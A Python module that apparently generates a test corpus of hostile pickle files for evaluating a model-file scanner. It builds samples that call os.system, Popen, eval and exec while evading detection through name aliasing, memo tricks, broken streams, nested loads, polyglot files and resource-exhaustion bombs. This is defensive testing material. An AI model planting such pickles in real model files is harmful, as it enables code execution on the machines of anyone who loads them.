"""Hostile pickles: the same sinks hidden behind opcodes, the memo, literals, attributes, breakage and nesting."""

import zipfile

from . import assembler as a
from .corpus import CODE, COMMAND, MARKER, Family, Sample, zip_bytes

SYSTEM = a.global_("os", "system")
ARGUMENT = a.text(COMMAND) + a.TUPLE1
CALL = SYSTEM + ARGUMENT + a.REDUCE
EVIL = a.stream(CALL)


def samples() -> list[Sample]:
    """The tricks, by kind."""
    family = Family("pickle-tricks")
    for part in (_calls, _names, _attributes, _nameless, _memo, _strings, _literals, _broken, _resources, _nested, _hidden, _files):
        part(family)
    return family.samples


def _calls(family: Family) -> None:
    """Every opcode that can call."""
    put = family.hostile
    put("inst.pkl", "INST calls os.system", a.MARK + a.text_line(COMMAND) + a.inst("os", "system") + a.STOP)
    put("obj.pkl", "OBJ calls os.system", a.stream(a.MARK + SYSTEM + a.text(COMMAND) + a.OBJ), "GHSA-mxhj-88fx-4pcv")
    put("obj_pop.pkl", "OBJ calls smtplib.SMTP and the result is popped", a.stream(a.MARK + a.stack_global("smtplib", "SMTP") + a.short_text("127.0.0.1") + a.OBJ + a.POP + a.NONE, 4), "GHSA-mxhj-88fx-4pcv")
    put("inst_pop.pkl", "INST calls os.system, the result is popped, a list stays", a.MARK + a.text_line(COMMAND) + a.inst("os", "system") + a.POP + a.EMPTY_LIST + a.STOP)
    put("newobj_popen.pkl", "NEWOBJ makes a subprocess.Popen", a.stream(a.global_("subprocess", "Popen") + a.value((["true"],)) + a.NEWOBJ))
    put("newobj_ex_popen.pkl", "NEWOBJ_EX makes a subprocess.Popen with keywords", a.stream(a.stack_global("subprocess", "Popen") + a.EMPTY_TUPLE + a.value({"args": ["true"]}) + a.NEWOBJ_EX, 4))
    put("newobj_bytes_map.pkl", "bytes made by NEWOBJ run map(os.system, ...): no REDUCE on the sink", a.stream(a.global_("builtins", "bytes") + a.global_("builtins", "map") + SYSTEM + a.value([COMMAND]) + a.TUPLE2 + a.NEWOBJ + a.TUPLE1 + a.NEWOBJ))
    put("newobj_list_filter.pkl", "list over filter(os.system, ...)", a.stream(a.global_("builtins", "list") + a.global_("builtins", "filter") + SYSTEM + a.value([COMMAND]) + a.TUPLE2 + a.NEWOBJ + a.TUPLE1 + a.NEWOBJ))
    put("reduce_pop.pkl", "REDUCE calls os.system and the result is popped", a.stream(CALL + a.POP + a.value({"weights": [1.0, 2.0]})))
    put("reduce_popmark.pkl", "the call's result is dropped by POP_MARK", a.stream(a.MARK + CALL + a.POP_MARK + a.value([1, 2])))
    put("dup.pkl", "the sink is doubled by DUP before the call", a.stream(SYSTEM + a.DUP + a.POP + ARGUMENT + a.REDUCE))
    put("in_dict_value.pkl", "the call is the value of a weight", a.stream(a.EMPTY_DICT + a.MARK + a.text("layer.weight") + CALL + a.SETITEMS))
    put("in_dict_key.pkl", "the call is a key of the state dict", a.stream(a.EMPTY_DICT + CALL + a.NONE + a.SETITEM))
    put("in_set.pkl", "the call is an element of a set", a.stream(a.EMPTY_SET + a.MARK + CALL + a.ADDITEMS, 4))
    put("in_frozenset.pkl", "the call is an element of a frozenset", a.stream(a.MARK + CALL + a.FROZENSET, 4))
    put("in_persistent_id.pkl", "the call happens inside a persistent id", a.stream(a.text("storage") + CALL + a.TUPLE2 + a.BINPERSID))
    put("as_argument_of_ordereddict.pkl", "the call is an argument of collections.OrderedDict", a.stream(a.global_("collections", "OrderedDict") + CALL + a.TUPLE1 + a.REDUCE))
    put("as_state.pkl", "the call is the state of an innocent estimator", a.stream(a.global_("sklearn.linear_model._base", "LinearRegression") + a.EMPTY_TUPLE + a.NEWOBJ + CALL + a.BUILD))
    put("defaultdict_factory.pkl", "the default factory of a defaultdict is a sink", a.stream(a.global_("collections", "defaultdict") + SYSTEM + a.TUPLE1 + a.REDUCE))
    put("ufunc_pyfunc.pkl", "numpy.frompyfunc over os.system", a.stream(a.call("numpy", "frompyfunc", (a.Raw(SYSTEM), 1, 1))))
    put("vectorize.pkl", "numpy.vectorize over os.system", a.stream(a.call("numpy", "vectorize", (a.Raw(SYSTEM),))))
    put("apply_along_axis.pkl", "numpy.apply_along_axis over os.system", a.stream(a.call("numpy", "apply_along_axis", (a.Raw(SYSTEM), 0, [COMMAND]))))
    put("function_transformer_system.pkl", "FunctionTransformer whose function is os.system, run at predict", a.stream(a.global_("sklearn.preprocessing._function_transformer", "FunctionTransformer") + a.EMPTY_TUPLE + a.NEWOBJ + a.value({"func": a.Raw(SYSTEM)}) + a.BUILD))
    put("reconstruct_foreign_class.pkl", "numpy _reconstruct with a foreign subtype", a.stream(a.call("numpy._core.multiarray", "_reconstruct", (a.Raw(a.global_("custody_unheard_of", "Array")), (0,), b"b"), 3), 3))
    put("reconstructor_foreign.pkl", "copyreg._reconstructor over subprocess.Popen", a.stream(a.call("copyreg", "_reconstructor", (a.Raw(a.global_("subprocess", "Popen")), a.Raw(a.global_("builtins", "object")), None))))
    put("newobj_call_result.pkl", "the class of NEWOBJ is itself the result of a call", a.stream(a.call("importlib", "import_module", ("os",)) + a.EMPTY_TUPLE + a.NEWOBJ))


def _names(family: Family) -> None:
    """Dotted names, submodules, aliases."""
    for module, attribute, reference in (
        ("logging", "os.system", "GHSA-5j3x-jp52-966f"),
        ("random", "_os.system", "GHSA-5j3x-jp52-966f"),
        ("pathlib", "os.system", "GHSA-5j3x-jp52-966f"),
        ("numpy", "os.system", ""),
        ("numpy", "f2py.capi_maps.os.system", ""),
        ("collections", "OrderedDict.__init__.__globals__.get", ""),
        ("collections", "_sys.modules.get", ""),
        ("collections", "abc.sys.modules.__getitem__", ""),
        ("sklearn.utils", "warnings.sys.exit", ""),
        ("sklearn.linear_model", "LinearRegression.fit.__globals__.__getitem__", ""),
        ("torch", "nn.Module.__init__.__globals__.get", ""),
        ("copyreg", "_reconstructor.__globals__.get", ""),
        ("functools", "partial.__call__.__class__", ""),
        ("datetime", "sys.modules.get", ""),
        ("builtins", "object.__subclasses__", ""),
        ("builtins", "print.__self__.eval", ""),
        ("builtins", "dict.get.__class__.__getattribute__", ""),
        ("joblib.numpy_pickle", "os.system", ""),
        ("scipy.sparse", "sys.modules.get", ""),
        ("xgboost.core", "os.system", ""),
    ):
        family.hostile(
            f"dotted.{module}.{attribute}.pkl",
            f"STACK_GLOBAL names `{attribute}` through the harmless module `{module}`",
            a.stream(a.stack_global(module, attribute) + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4),
            reference,
        )
    family.hostile("unicode_name.pkl", "the module is written in full-width letters", a.stream(a.stack_global("\uff4f\uff53", "system") + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4))
    family.hostile("global_trailing_space.pkl", "GLOBAL with a space after the module", a.stream(a.global_("os ", "system") + ARGUMENT + a.REDUCE))
    family.hostile("global_crlf.pkl", "GLOBAL whose lines end with a carriage return", a.stream(b"cos\r\nsystem\r\n" + ARGUMENT + a.REDUCE))
    family.hostile("global_dotted_p2.pkl", "GLOBAL in protocol 2 with a dotted name", a.stream(a.global_("os", "path.os.system") + ARGUMENT + a.REDUCE))
    family.hostile("main_module.pkl", "a function of __main__ is called", a.stream(a.call("__main__", "main", ())))
    family.hostile("relative_module.pkl", "the module name begins with a dot", a.stream(a.global_(".os", "system") + ARGUMENT + a.REDUCE))
    family.hostile("wrong_case.pkl", "a near name of an allowed class: sklearn.linear_model._base.linearRegression", a.stream(a.call("sklearn.linear_model._base", "linearRegression", ())))
    family.hostile("lookalike_module.pkl", "a near name of an allowed module: sklean", a.stream(a.call("sklean.linear_model", "LinearRegression", ())), "ATLAS AML.T0011.001")
    family.hostile("prefix_module.pkl", "a module that only begins like an allowed one: numpy_evil", a.stream(a.call("numpy_evil", "ndarray", ())))
    family.hostile("sklearn_prefix_module.pkl", "sklearn_evil.linear_model.LinearRegression", a.stream(a.global_("sklearn_evil.linear_model", "LinearRegression") + a.EMPTY_TUPLE + a.NEWOBJ))


def _attributes(family: Family) -> None:
    """Mutation of shared objects by BUILD and SETITEM, getattr chains."""
    put = family.hostile
    put("build_on_function.pkl", "BUILD writes __builtins__ into numpy.size", a.stream(a.global_("numpy", "size") + a.value({"__builtins__": {}}) + a.BUILD), "modelscan #330")
    put("build_on_function_slots.pkl", "BUILD with a slot state writes __code__ of numpy.mean", a.stream(a.global_("numpy", "mean") + a.value((None, {"__code__": None})) + a.BUILD))
    put("build_on_class.pkl", "BUILD writes __reduce__ into a class", a.stream(a.global_("sklearn.base", "BaseEstimator") + a.value((None, {"__setstate__": a.Raw(SYSTEM)})) + a.BUILD))
    put("build_on_module.pkl", "BUILD on a module brought by a call", a.stream(a.call("importlib", "import_module", ("json",)) + a.value({"loads": 1}) + a.BUILD))
    put("build_dunder_class.pkl", "BUILD state of an estimator sets __class__ and __setstate__", a.stream(a.global_("sklearn.linear_model._base", "LinearRegression") + a.EMPTY_TUPLE + a.NEWOBJ + a.value((None, {"__setstate__": a.Raw(a.global_("builtins", "exec"))})) + a.BUILD + a.text(CODE) + a.BUILD))
    put("build_predict_override.pkl", "BUILD state gives an estimator a `predict` of eval", a.stream(a.global_("sklearn.linear_model._base", "LinearRegression") + a.EMPTY_TUPLE + a.NEWOBJ + a.value({"coef_": [1.0], "predict": a.Raw(a.global_("builtins", "eval"))}) + a.BUILD))
    tensor = a.call("torch._utils", "_rebuild_tensor_v2", (a.Raw(a.value(("storage", "0", "cpu", 4)) + a.BINPERSID), 0, (4,), (1,), False, {}))
    put("setitem_on_tensor.pkl", "SETITEM on a tensor, memory corruption through the weights-only unpickler", a.stream(tensor + a.number(2**40) + a.number(1) + a.SETITEM), "CVE-2026-24747")
    put("setitem_on_modules.pkl", "SETITEM on sys.modules", a.stream(a.global_("sys", "modules") + a.text("math") + a.NONE + a.SETITEM))
    put("append_on_path.pkl", "APPEND on sys.path", a.stream(a.global_("sys", "path") + a.text(MARKER) + a.APPEND))
    put("append_on_meta_path.pkl", "APPENDS on sys.meta_path", a.stream(a.global_("sys", "meta_path") + a.MARK + a.NONE + a.APPENDS))
    put("setitem_on_environ.pkl", "SETITEM on os.environ", a.stream(a.global_("os", "environ") + a.text("PATH") + a.text(".") + a.SETITEM))
    put("setitem_on_dispatch.pkl", "SETITEM on copyreg.dispatch_table", a.stream(a.global_("copyreg", "dispatch_table") + a.global_("builtins", "str") + SYSTEM + a.SETITEM))
    put("getattr_chain.pkl", "getattr(object, '__subclasses__')()", a.stream(a.call("builtins", "getattr", (a.Raw(a.global_("builtins", "object")), "__subclasses__")) + a.EMPTY_TUPLE + a.REDUCE))
    put("getattr_str_globals.pkl", "getattr over an allowed class but for a dunder", a.stream(a.call("builtins", "getattr", (a.Raw(a.global_("builtins", "str")), "__class__")) + a.text("x") + a.TUPLE1 + a.REDUCE))
    put("getattr_on_call.pkl", "getattr over the result of __import__", a.stream(a.call("builtins", "getattr", (a.Raw(a.call("builtins", "__import__", ("os",))), "system")) + ARGUMENT + a.REDUCE), "GHSA-h4rm-mm56-xf63")
    put("setattr_builtins.pkl", "setattr(builtins, ...)", a.stream(a.call("builtins", "setattr", (a.Raw(a.global_("builtins", "__dict__")), "x", 1))))
    put("itemgetter_modules.pkl", "operator.itemgetter applied to sys.modules", a.stream(a.call("operator", "itemgetter", ("os",)) + a.global_("sys", "modules") + a.TUPLE1 + a.REDUCE))
    put("type_three_arguments.pkl", "builtins.type makes a class with a hostile __init__", a.stream(a.call("builtins", "type", ("X", (), {"__init__": a.Raw(SYSTEM)})) + a.EMPTY_TUPLE + a.REDUCE))
    put("partial_setstate.pkl", "an allowed functools.partial gets another function by BUILD", a.stream(a.call("functools", "partial", (a.Raw(a.global_("numpy", "zeros")),)) + a.value((a.Raw(SYSTEM), (COMMAND,), {}, None)) + a.BUILD + a.EMPTY_TUPLE + a.REDUCE))


def _nameless(family: Family) -> None:
    """Globals that the stream never names."""
    put = family.hostile
    register = a.call("copyreg", "add_extension", ("os", "system", 42)) + a.POP
    put("ext1.pkl", "copyreg.add_extension, then EXT1", a.stream(register + a.ext1(42) + ARGUMENT + a.REDUCE))
    put("ext2.pkl", "copyreg.add_extension, then EXT2", a.stream(a.call("copyreg", "add_extension", ("os", "system", 4242)) + a.POP + a.ext2(4242) + ARGUMENT + a.REDUCE))
    put("ext4.pkl", "copyreg.add_extension, then EXT4", a.stream(a.call("copyreg", "add_extension", ("os", "system", 424242)) + a.POP + a.ext4(424242) + ARGUMENT + a.REDUCE))
    put("ext_alone.pkl", "EXT1 of a code that somebody else may have registered", a.stream(a.ext1(7) + ARGUMENT + a.REDUCE))
    put("ext_registry.pkl", "SETITEM on copyreg._inverted_registry, then EXT1", a.stream(a.global_("copyreg", "_inverted_registry") + a.number(9) + a.value(("os", "system")) + a.SETITEM + a.POP + a.ext1(9) + ARGUMENT + a.REDUCE))
    put("sys_modules_override.pkl", "sys.modules['collections'] is replaced, then collections.OrderedDict is called", a.stream(a.global_("sys", "modules") + a.text("collections") + a.call("builtins", "__import__", ("os",)) + a.SETITEM + a.POP + a.global_("collections", "system") + ARGUMENT + a.REDUCE))
    computed = a.call("operator", "concat", ("o", "s"), 4) + a.short_text("system") + a.STACK_GLOBAL
    put("stack_global_computed.pkl", "STACK_GLOBAL with a computed module name", a.stream(computed + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4))
    put("stack_global_join.pkl", "STACK_GLOBAL with names joined by str.join", a.stream(a.short_text("os") + a.call("builtins", "str.join", ("", ["sys", "tem"]), 4) + a.STACK_GLOBAL + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4))
    put("stack_global_persid.pkl", "STACK_GLOBAL whose module is a persistent id", a.stream(a.short_text("x") + a.BINPERSID + a.short_text("system") + a.STACK_GLOBAL + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4))
    put("call_of_persid.pkl", "a persistent object is called", a.stream(a.text("x") + a.BINPERSID + ARGUMENT + a.REDUCE))
    put("call_of_buffer.pkl", "an out-of-band buffer is called", a.stream(a.NEXT_BUFFER + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 5))


def _memo(family: Family) -> None:
    """Memo tricks: what a scanner that guesses the operands of STACK_GLOBAL gets wrong."""
    put = family.hostile
    put("memo_binget_names.pkl", "the names come back from the memo in another order", a.stream(a.short_text("system") + a.MEMOIZE + a.POP + a.short_text("os") + a.MEMOIZE + a.POP + a.get(1) + a.get(0) + a.STACK_GLOBAL + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4))
    put("memo_stale_top.pkl", "MEMOIZE after POP stores the stack top, not the last string", a.stream(a.short_text("os") + a.short_text("decoy") + a.POP + a.MEMOIZE + a.POP + a.short_text("system") + a.short_text("collections") + a.POP + a.put(1) + a.POP + a.get(0) + a.get(1) + a.STACK_GLOBAL + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4))
    put("memo_overwritten.pkl", "a memo slot is written twice", a.stream(a.short_text("collections") + a.put(0) + a.POP + a.short_text("os") + a.put(0) + a.POP + a.get(0) + a.short_text("system") + a.STACK_GLOBAL + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4))
    put("memo_long_binget.pkl", "names fetched by LONG_BINGET from far slots", a.stream(a.short_text("os") + a.put(70000) + a.POP + a.short_text("system") + a.put(300) + a.POP + a.get(70000) + a.get(300) + a.STACK_GLOBAL + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4))
    put("memo_text_get.pkl", "the sink is put and fetched by text PUT and GET", a.stream(SYSTEM + a.put_line("7") + a.POP + a.get_line("7") + ARGUMENT + a.REDUCE))
    put("memo_global_reused.pkl", "the sink is memoised among decoys and called much later", a.stream(SYSTEM + a.put(0) + a.POP + b"".join(a.value({"w": [float(n)]}) + a.POP for n in range(200)) + a.get(0) + ARGUMENT + a.REDUCE))
    put("memo_argument_later.pkl", "the arguments' tuple is built before its sink is named", a.stream(ARGUMENT + a.put(3) + a.POP + SYSTEM + a.get(3) + a.REDUCE))
    put("dup_stack_global.pkl", "DUP provides one of the names", a.stream(a.short_text("code") + a.DUP + a.POP + a.short_text("interact") + a.STACK_GLOBAL + a.EMPTY_TUPLE + a.REDUCE, 4))
    first = a.proto(4) + a.short_text("os") + a.MEMOIZE + a.POP + a.short_text("system") + a.MEMOIZE + a.STOP
    decoy = a.short_text("collections") + a.POP + a.short_text("OrderedDict") + a.POP
    second = a.proto(4) + decoy + a.get(0) + a.get(1) + a.STACK_GLOBAL + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE + a.STOP
    put("multi_pickle_memo_carry.pkl", "two pickles in a file; the second fetches what the first memoised, as one Unpickler object would", first + second)
    put("multi_pickle_second.pkl", "an innocent pickle, then a hostile one", a.stream(a.value({"a": 1})) + EVIL)
    put("multi_pickle_third_p0.pkl", "two innocent pickles, then a hostile one of protocol 0", a.stream(a.value([1])) + a.stream(a.value("x")) + a.stream(a.call("os", "system", (COMMAND,), 0), 0))
    put("multi_pickle_gap.pkl", "innocent pickle, 64 zero bytes, hostile pickle", a.stream(a.value([1])) + bytes(64) + EVIL)
    put("multi_pickle_text_gap.pkl", "innocent pickle, a line of text, hostile pickle", a.stream(a.value([1])) + b"\nmodel card follows\n" + EVIL)


def _strings(family: Family) -> None:
    """Names given by every string opcode."""
    forms = {
        "binunicode": a.text("os") + a.text("system"),
        "binunicode8": a.text8("os") + a.text8("system"),
        "unicode_line": a.text_line("os") + a.text_line("system"),
        "string_line": a.string_line("os") + a.string_line("system"),
        "short_binstring": a.short_string(b"os") + a.short_string(b"system"),
        "binstring": a.bin_string(b"os") + a.bin_string(b"system"),
        "unicode_escape": b"V\\u006fs\n" + b"Vsyst\\u0065m\n",
        "string_escape": b"S'\\x6fs'\n" + b"S'syst\\145m'\n",
        "mixed": a.text_line("os") + a.short_string(b"system"),
    }
    for name, code in forms.items():
        family.hostile(f"names_{name}.pkl", f"STACK_GLOBAL over names written as {name}", a.stream(code + a.STACK_GLOBAL + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE, 4))
    for version in range(6):
        family.hostile(f"system_p{version}.pkl", f"os.system in protocol {version} as a pickler writes it", a.stream(a.call("os", "system", (COMMAND,), version), version))
        family.hostile(f"eval_noframe_p{version}", f"builtins.eval in protocol {version}, without a frame and without a file extension", a.proto(version) + a.call("builtins", "eval", (CODE,), version) + a.STOP)
    family.hostile("proto_mid_stream.pkl", "PROTO again in the middle of the stream", a.proto(2) + a.NONE + a.POP + a.proto(4) + a.call("os", "system", (COMMAND,), 4) + a.STOP)
    family.hostile("proto_absent_p4.pkl", "opcodes of protocol 4 without PROTO", a.call("os", "system", (COMMAND,), 4) + a.STOP)
    family.hostile("proto_lie.pkl", "PROTO says 0", b"\x80\x00" + a.call("os", "system", (COMMAND,), 4) + a.STOP)
    family.hostile("frame_split.pkl", "a frame ends within the call", a.proto(4) + a.frame(a.short_text("os") + a.short_text("system")) + a.frame(a.STACK_GLOBAL + a.short_text(COMMAND) + a.TUPLE1 + a.REDUCE + a.STOP))
    family.hostile("frame_zero.pkl", "empty frames before the call", a.proto(4) + a.frame(b"") * 3 + a.frame(a.call("os", "system", (COMMAND,), 4) + a.STOP))
    family.hostile("frame_too_long.pkl", "the frame claims more than the file holds: the C unpickler refuses, others run it", a.proto(4) + b"\x95" + (2**20).to_bytes(8, "little") + a.call("os", "system", (COMMAND,), 4) + a.STOP)


def _literals(family: Family) -> None:
    """Number literals that loaders take and `pickletools` does not."""
    for name, code in {
        "int_hex": a.int_line("0x41"),
        "int_octal": a.int_line("0o17"),
        "int_binary": a.int_line("0b11"),
        "int_underscore": a.int_line("1_000"),
        "int_space": a.int_line(" 12 "),
        "int_plus": a.int_line("+7"),
        "long_hex": a.long_line("0x41L"),
        "long_octal": a.long_line("0o17L"),
        "long_no_suffix": a.long_line("12"),
        "float_underscore": a.float_line("1_0.5"),
        "float_inf": a.float_line("inf"),
        "float_space": a.float_line(" 1.5 "),
        "string_double_quotes": b'S"x"\n',
        "put_plus": a.NONE + a.put_line("+3"),
        "put_space": a.NONE + a.put_line(" 3"),
        "get_underscore": a.NONE + a.put(10) + a.POP + a.get_line("1_0"),
    }.items():
        family.hostile(f"literal_{name}.pkl", f"a literal of odd form ({name}) before the call, where a strict parser gives up", a.stream(code + a.POP + CALL))


def _broken(family: Family) -> None:
    """Streams that run first and break afterwards."""
    put = family.hostile
    reference = "ATLAS AML.T0076"
    head = a.proto(2) + CALL
    put("no_stop.pkl", "no STOP after the call", head, reference)
    put("bad_opcode.pkl", "an unknown opcode after the call", head + b"\xff.", reference)
    put("bad_opcode_nullifai.pkl", "text after the call, as in the nullifAI files", head + b"XYZ not a pickle any more", reference)
    put("bad_utf8.pkl", "invalid UTF-8 in a string after the call", head + b"X\x02\x00\x00\x00\xff\xfe.", reference)
    put("truncated_string.pkl", "a string longer than the file after the call", head + b"X\xff\x00\x00\x00abc", reference)
    put("stack_underflow.pkl", "pops from an empty stack after the call", head + a.POP * 3 + a.STOP, reference)
    put("missing_mark.pkl", "SETITEMS without a mark after the call", head + a.SETITEMS + a.STOP, reference)
    put("missing_memo.pkl", "BINGET of a missing slot after the call", head + a.get(99) + a.STOP, reference)
    put("bad_proto.pkl", "PROTO 255 after the call", head + b"\x80\xff.", reference)
    put("trailing_garbage.pkl", "garbage after STOP", EVIL + b"\x00\xff" * 50, reference)
    put("leading_pop.p", "a protocol 0 stream that begins with NONE and POP", a.NONE + a.POP + a.call("os", "system", (COMMAND,), 0) + a.STOP)
    put("bad_literal_after.pkl", "INT with no number after the call", head + b"Inope\n.", reference)
    put("bad_opcode_p0", "protocol 0, no extension, bad opcode after the call", a.call("posix", "system", (COMMAND,), 0) + b"\x01\x02", reference)
    put("negative_length.pkl", "BINSTRING of negative length after the call", head + b"T\xff\xff\xff\xff.", reference)
    put("stack_global_numbers.pkl", "STACK_GLOBAL over numbers after the call", head + a.number(1) + a.number(2) + a.STACK_GLOBAL + a.STOP, reference)


def _resources(family: Family) -> None:
    """Streams that exhaust the loader or the scanner."""
    put = family.hostile
    laughs = a.EMPTY_LIST + a.put(0)
    for level in range(1, 60):
        laughs = laughs + a.POP + a.MARK + a.get(level - 1) * 10 + a.LIST + a.put(level)
    put("memo_expansion.pkl", "60 levels of ten references each", a.stream(laughs), "ATLAS AML.T0029")
    doubled = a.text("A" * 64) + a.put(0)
    for level in range(1, 50):
        doubled += a.POP + a.get(level - 1) * 2 + a.TUPLE2 + a.put(level)
    put("memo_expansion_tuples.pkl", "50 doublings of a tuple", a.stream(doubled), "ATLAS AML.T0029")
    put("depth_lists.pkl", "300,000 nested lists", a.stream(a.EMPTY_LIST * 300_000 + a.APPEND * 299_999), "ATLAS AML.T0029")
    put("depth_tuples.pkl", "200,000 nested tuples", a.stream(a.NONE + a.TUPLE1 * 200_000), "ATLAS AML.T0029")
    put("depth_marks.pkl", "500,000 open marks", a.stream(a.MARK * 500_000), "ATLAS AML.T0029")
    put("binbytes8_2e60.pkl", "BINBYTES8 claims 2^60 bytes", a.stream(a.data8(b"abc", 2**60), 4), "ATLAS AML.T0029")
    put("bytearray8_2e40.pkl", "BYTEARRAY8 claims 2^40 bytes", a.proto(5) + b"\x96" + (2**40).to_bytes(8, "little") + b"abc" + a.STOP, "ATLAS AML.T0029")
    put("binunicode8_max.pkl", "BINUNICODE8 claims 2^64-1 bytes", a.proto(4) + b"\x8d" + b"\xff" * 8 + b"abc" + a.STOP, "ATLAS AML.T0029")
    put("long4_huge.pkl", "LONG4 claims 2 GiB", a.proto(2) + b"\x8b\xff\xff\xff\x7f" + b"\x01" * 16 + a.STOP, "ATLAS AML.T0029")
    put("frame_2e63.pkl", "FRAME claims 2^63 bytes", a.proto(4) + b"\x95" + (2**63).to_bytes(8, "little") + a.NONE + a.STOP, "ATLAS AML.T0029")
    put("long_binput_4g.pkl", "LONG_BINPUT into slot 2^32-1: the C unpickler's memo grows to it", a.stream(a.NONE + b"r\xff\xff\xff\xff"), "ATLAS AML.T0029")
    put("bytearray_request.pkl", "bytearray(10**12) asked for by a call", a.stream(a.call("builtins", "bytearray", (10**12,))), "ATLAS AML.T0029")
    put("range_list.pkl", "list(range(10**11))", a.stream(a.global_("builtins", "list") + a.call("builtins", "range", (10**11,)) + a.TUPLE1 + a.REDUCE), "ATLAS AML.T0029")
    put("numpy_reconstruct_huge.pkl", "numpy _reconstruct of a shape of 2^50", a.stream(a.call("numpy._core.multiarray", "_reconstruct", (a.Raw(a.global_("numpy", "ndarray")), (2**50,), b"b"), 3), 3), "ATLAS AML.T0029")


def _nested(family: Family) -> None:
    """A second pickle in a constant that a loader function runs."""
    inner = EVIL
    for module, attribute, arguments in (
        ("torch.storage", "_load_from_bytes", (inner,)),
        ("_pickle", "loads", (inner,)),
        ("cPickle", "loads", (inner,)),
        ("numba.core.serialize", "_unpickle", (inner,)),
        ("numba.core.serialize", "_rebuild_function", (inner, {}, "f", {})),
        ("joblib.externals.cloudpickle", "loads", (inner,)),
        ("ray.cloudpickle", "loads", (inner,)),
        ("pandas.compat.pickle_compat", "loads", (inner,)),
        ("multiprocessing.connection", "_ForkingPickler.loads", (inner,)),
    ):
        family.hostile(f"nested.{module}.{attribute}.pkl", f"{module}.{attribute} over a hostile pickle in a constant", a.stream(a.call(module, attribute, arguments, 3), 3))
    twice = a.stream(a.call("_pickle", "loads", (a.stream(a.call("torch.storage", "_load_from_bytes", (inner,), 3), 3),), 3), 3)
    family.hostile("nested_twice.pkl", "two levels of nested pickles", twice)
    family.hostile("nested_benign_loads.pkl", "pickle.loads over an innocent constant: the loader itself is the finding", a.stream(a.call("pickle", "loads", (a.stream(a.value([1])),), 3), 3))
    family.hostile("nested_codecs_bytes.pkl", "the nested pickle is written as latin-1 text through _codecs.encode", a.stream(a.call("torch.storage", "_load_from_bytes", (a.Raw(a.call("_codecs", "encode", (inner.decode("latin-1"), "latin1"))),))))
    family.hostile("codecs_decode_rot.pkl", "_codecs.decode with a code-page that unpacks", a.stream(a.call("_codecs", "decode", (b"N", "zlib_codec"), 3), 3))


def _hidden(family: Family) -> None:
    """Extensions, polyglots and neighbours."""
    put = family.hostile
    for name in ("model", "model.p", "model.txt", "model.json", "model.safetensors", "model.onnx", "model.md", "model.png", "model.h5", "model.gguf", "license.dat", "weights.bin"):
        put(f"ext/{name}", f"a hostile pickle named {name}", EVIL, "CVE-2025-1889, CVE-2025-10155")
    tail = zip_bytes([("readme.txt", b"nothing to see\n")])
    put("zip_tail.pkl", "a hostile pickle with a zip behind it: is_zipfile says true", EVIL + tail)
    put("zip_tail_torch.pt", "a hostile pickle with an innocent torch zip behind it", EVIL + zip_bytes([("archive/data.pkl", a.stream(a.EMPTY_DICT)), ("archive/version", b"3\n")]))
    put("png_head.pkl", "the bytes of a PNG signature follow the pickle", EVIL + b"\x89PNG\r\n\x1a\n" + bytes(32))
    put("padded_1mb.pkl", "a megabyte of weights before the call", a.stream(a.data(bytes(1_000_000)) + a.POP + CALL, 3))
    put("many_decoys.pkl", "20,000 innocent operations before the call", a.stream((a.number(7) + a.POP) * 20_000 + CALL))


def _files(family: Family) -> None:
    """Archives whose members are hostile pickles of plain kind."""
    put = family.hostile
    put("in_zip.zip", "a zip holding a hostile pickle", zip_bytes([("model.pkl", EVIL)]))
    put("in_zip_deflated.zip", "a deflated zip holding a hostile pickle", zip_bytes([("model.pkl", EVIL)], zipfile.ZIP_DEFLATED))
    put("folder", "a model folder with an innocent and a hostile pickle", {"README.md": b"# A model\n", "a.pkl": a.stream(a.value([1])), "sub/b.pkl": EVIL})
